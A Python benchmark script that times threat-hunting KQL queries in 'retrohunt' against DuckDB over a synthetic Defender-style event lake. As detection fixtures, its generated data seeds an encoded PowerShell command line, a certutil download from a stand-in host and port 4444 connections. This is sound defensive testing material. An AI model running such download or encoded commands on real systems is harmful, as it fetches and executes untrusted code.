"""Times ten hunting queries of different kinds: retrohunt beside DuckDB with the SQL that duckdb-kql makes of them.

usage: benches/peers/hunts.py --lake DIR [--rows 10000000] [--rounds 5] [--only NAME,…] [--retrohunt BINARY] [--here]

The queries are hunts/*.kql; where duckdb-kql does not know an operator, SQL by hand lies beside the query. The lake, five tables of so many rows over ten days, is made where the folder is absent: values
are drawn from the row's number alone, so that the same number of rows gives the same lake. One round runs every query once
with each of the two; the medians are told. retrohunt is a whole process, from fork to exit; DuckDB has a process that has
done its imports, and a connection with views of the tables. Both must give the same rows: counts of distinct values, which
are estimates for both, may differ by 5 %.
"""
import argparse, csv, datetime, io, json, math, os, pathlib, statistics, subprocess, sys, time

from run import HERE, PROJECT, own_environment

DAYS, START = 10, "2026-01-01"
#: Columns that are estimates.
ESTIMATES = {"Accounts", "Devices"}



def pick(values, salt):
    """One of these texts by the row."""
    listed = "[" + ", ".join("'" + value.replace("'", "''") + "'" for value in values) + "]"
    return f"{listed}[1 + (hash(i * 31 + {salt}) % {len(values)})::BIGINT]"


def rare(value, other, one_in, salt):
    return f"CASE WHEN hash(i * 31 + {salt}) % {one_in} = 0 THEN {value} ELSE {other} END"


LINES = [r"C:\Windows\System32\svchost.exe -k netsvcs -p", r'"C:\Program Files\App\app.exe" --type=renderer --lang=en-US',
         r"cmd.exe /c dir C:\Temp", r"C:\Windows\explorer.exe", r"conhost.exe 0xffffffff -ForceV1"]
COMMON = {
    "Timestamp": f"TIMESTAMP '{START}' + to_microseconds((hash(i * 31 + 1) % {DAYS * 86_400_000_000})::BIGINT)",
    "DeviceId": "md5((hash(i * 31 + 2) % 5000)::VARCHAR)",
    "DeviceName": "'host-' || (hash(i * 31 + 2) % 5000)::VARCHAR || '.corp.example'",
    "ReportId": "i",
}
ACCOUNT = "'user' || (hash(i * 31 + 3) % 20000)::VARCHAR"
LINE = rare("'powershell.exe -NoProfile -enc ' || base64(encode(md5(i::VARCHAR)))",
            rare("'certutil.exe -urlcache -f http://files.example/' || i::VARCHAR || ' out.bin'",
                 pick(LINES, 5) + " || ' ' || (hash(i * 31 + 6) % 100000)::VARCHAR", 2000, 7), 4000, 8)
ADDRESS = "'203.0.' || (hash(i * 31 + 9) % 20)::VARCHAR || '.' || (hash(i * 31 + 10) % 50)::VARCHAR"
HASH = "sha256((hash(i * 31 + {salt}) % {many})::VARCHAR)"
TABLES = {
    "DeviceProcessEvents": {
        "ActionType": "'ProcessCreated'",
        "FileName": rare("'powershell.exe'", pick(["svchost.exe", "app.exe", "cmd.exe", "explorer.exe", "conhost.exe"], 5), 50, 11),
        "SHA256": HASH.format(salt=12, many=200_000),
        "ProcessCommandLine": LINE,
        "AccountName": ACCOUNT,
    },
    "DeviceNetworkEvents": {
        "ActionType": pick(["ConnectionSuccess", "ConnectionFailed", "InboundConnectionAccepted"], 13),
        "RemoteIP": ADDRESS,
        "RemotePort": rare("4444::INTEGER", "[443, 80, 53, 445, 3389, 8080][1 + (hash(i * 31 + 14) % 6)::BIGINT]::INTEGER", 3000, 15),
        "RemoteUrl": "'www.site' || (hash(i * 31 + 16) % 50000)::VARCHAR || '.example'",
    },
    "DeviceFileEvents": {
        "ActionType": pick(["FileCreated", "FileModified", "FileRenamed", "FileDeleted"], 17),
        "FileName": "'file' || (hash(i * 31 + 18) % 90000)::VARCHAR || " + rare("'.scr'", pick([".dll", ".exe", ".tmp", ".log"], 19), 20_000, 20),
        "FolderPath": pick(["C:\\Users\\", "C:\\Windows\\Temp\\", "C:\\ProgramData\\"], 21) + " || (hash(i * 31 + 22) % 500)::VARCHAR",
        "SHA256": HASH.format(salt=23, many=2_000_000),
        "InitiatingProcessCommandLine": LINE,
    },
    "DeviceLogonEvents": {
        "ActionType": rare("'LogonFailed'", "'LogonSuccess'", 5, 24),
        "AccountName": ACCOUNT,
        "RemoteIP": ADDRESS,
    },
    "DeviceEvents": {
        "ActionType": rare("'AntivirusDetection'", pick(["NamedPipeEvent", "PowerShellCommand", "DnsQueryResponse", "CreateRemoteThreadApiCall"], 25), 200, 26),
        "AdditionalFields": rare("""'{"ThreatNames":["Trojan:' || (hash(i * 31 + 27) % 40)::VARCHAR || '","Tool:' || (hash(i * 31 + 28) % 40)::VARCHAR || '"],"Severity":' || (i % 5)::VARCHAR || '}'""",
                                 """'{"PipeName":"\\\\Device\\\\NamedPipe\\\\' || """ + rare("'msagent_'", "'srv_'", 300, 29) + """ || (hash(i * 31 + 30) % 200)::VARCHAR || '","FileOperation":"' || """ + pick(["File created", "File opened"], 31) + """ || '","DesiredAccess":' || (i % 7)::VARCHAR || '}'""", 200, 26),
    },
}


def make(lake, rows):
    """The lake, a file a day and table, in row groups of 200,000 rows."""
    import duckdb
    con = duckdb.connect()
    for table, own in TABLES.items():
        columns = ", ".join(f"{value} AS {name}" for name, value in {**COMMON, **own}.items())
        for day in range(DAYS):
            date = datetime.date.fromisoformat(START) + datetime.timedelta(days=day)
            folder = pathlib.Path(lake) / table / f"date={date}"
            folder.mkdir(parents=True)
            part = f"range({rows * day // DAYS}, {rows * (day + 1) // DAYS}) AS t(i)"
            time_of_day = f"TIMESTAMP '{date}' + to_microseconds((hash(i * 31 + 1) % 86400000000)::BIGINT)"
            query = f"SELECT {columns.replace(COMMON['Timestamp'], time_of_day)} FROM {part}"
            con.execute(f"COPY ({query}) TO '{folder}/part-0.parquet' (FORMAT parquet, COMPRESSION zstd, ROW_GROUP_SIZE 200000)")
        print(f"made {table}", file=sys.stderr)


class DuckDb:
    """DuckDB with views of the lake, and the SQL of each query."""

    def __init__(self, lake, queries):
        import duckdb_kql
        self.con = duckdb_kql.connect()
        for table in TABLES:
            self.con.execute(f"CREATE VIEW {table} AS SELECT * FROM read_parquet('{lake}/{table}/*/*.parquet', hive_partitioning = false)")
        self.sql = {}
        schema = {table: [row[0] for row in self.con.execute(f"DESCRIBE {table}").fetchall()] for table in TABLES}
        for name, query in queries.items():
            own = HERE / f"hunts/{name}.sql"
            self.sql[name] = own.read_text(encoding="utf-8") if own.exists() else duckdb_kql.to_sql(query, schema=schema)

    def run(self, name):
        started = time.perf_counter()
        result = self.con.execute(self.sql[name])
        rows = result.fetchall()
        return time.perf_counter() - started, [column[0] for column in result.description], rows


def retrohunt(binary, lake, query):
    started = time.perf_counter()
    done = subprocess.run([binary, "query", query, "--lake", lake, "--format", "csv"], capture_output=True, text=True)
    took = time.perf_counter() - started
    if done.returncode:
        sys.exit(f"retrohunt: {done.stderr}")
    header, *rows = csv.reader(io.StringIO(done.stdout))
    return took, header, rows


def plain(value):
    """A value as both give it: numbers as numbers, times to the microsecond, lists without their order."""
    if isinstance(value, datetime.datetime):
        return value.strftime("%Y-%m-%dT%H:%M:%S.%f")
    if isinstance(value, (list, tuple)):
        return tuple(sorted(str(plain(item)) for item in value))
    if value is None:
        return ""
    if not isinstance(value, str):
        return str(value)
    if len(value) == 28 and value[10] == "T" and value.endswith("Z"):
        return value[:26]
    if value.startswith("["):
        try:
            return plain([str(item) for item in json.loads(value)])
        except ValueError:
            return value
    return value


def check(name, ours, theirs):
    """Stops where the two do not give the same rows."""
    def sorted_rows(header, rows):
        order = sorted(range(len(header)), key=lambda at: header[at])
        exact = [at for at in order if header[at] not in ESTIMATES]
        guessed = [at for at in order if header[at] in ESTIMATES]
        return sorted((tuple(plain(row[at]) for at in exact), tuple(plain(row[at]) for at in guessed)) for row in rows)
    (a, b) = (sorted_rows(*ours), sorted_rows(*theirs))
    if len(a) != len(b):
        sys.exit(f"{name}: {len(a)} rows, and DuckDB has {len(b)}")
    for (exact, guessed), (exact_b, guessed_b) in zip(a, b):
        near = all(x == y or isinstance(x, str) and x.isdigit() and math.isclose(float(x), float(y), rel_tol=0.05, abs_tol=2)
                   for x, y in zip(guessed, guessed_b))
        if exact != exact_b or not near:
            sys.exit(f"{name}: {exact} {guessed}, and DuckDB has {exact_b} {guessed_b}")
    return len(a)


def arguments():
    target = os.environ.get("CARGO_TARGET_DIR", str(PROJECT / "target"))
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--lake", required=True)
    ap.add_argument("--rows", type=int, default=10_000_000)
    ap.add_argument("--rounds", type=int, default=5)
    ap.add_argument("--only", default="")
    ap.add_argument("--retrohunt", default=f"{target}/release/retrohunt")
    ap.add_argument("--here", action="store_true", help="use this Python's packages")
    return ap.parse_args()


def main():
    args = arguments()
    if not args.here:
        own_environment(__file__)
    if not os.path.isdir(args.lake):
        make(args.lake, args.rows)
    lake = os.path.abspath(args.lake)
    only = set(filter(None, args.only.split(",")))
    files = {path.stem: path for path in sorted((HERE / "hunts").glob("*.kql")) if not only or path.stem in only}
    duck = DuckDb(lake, {name: path.read_text(encoding="utf-8") for name, path in files.items()})
    times = {name: ([], []) for name in files}
    rows = {}
    for round_ in range(args.rounds + 1):
        for name, path in files.items():
            ours, *our_rows = retrohunt(args.retrohunt, lake, str(path))
            theirs, *their_rows = duck.run(name)
            rows[name] = check(name, our_rows, their_rows)
            if round_:  # The first one warms the page cache.
                times[name][0].append(ours)
                times[name][1].append(theirs)
    print(f"{'query':<14} {'rows':>6} {'retrohunt':>10} {'DuckDB':>8} {'ratio':>6}")
    for name, (ours, theirs) in times.items():
        a, b = statistics.median(ours), statistics.median(theirs)
        print(f"{name:<14} {rows[name]:>6} {a:>8.3f} s {b:>6.3f} s {b / a:>6.2f}")


if __name__ == "__main__":
    main()
